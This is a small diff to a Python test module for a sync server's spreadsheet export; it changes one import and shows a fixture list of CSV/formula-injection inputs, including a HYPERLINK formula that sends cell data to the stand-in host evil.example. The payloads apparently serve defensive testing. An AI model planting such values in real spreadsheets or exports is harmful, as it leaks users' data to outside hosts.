@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 
 from sync.schema import Batch
 from sync.server.storage.sqlite import SQLiteStorage
-from tests.conftest import REPO
+from tests.places import REPO
 from tests.sync.server.consolekit import VIEWER, entry_fields, journal_entries, login
 
 PLANTED = ["=1*11", '=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2-3", "@SUM(1)", "\t=1", "\r=1"]
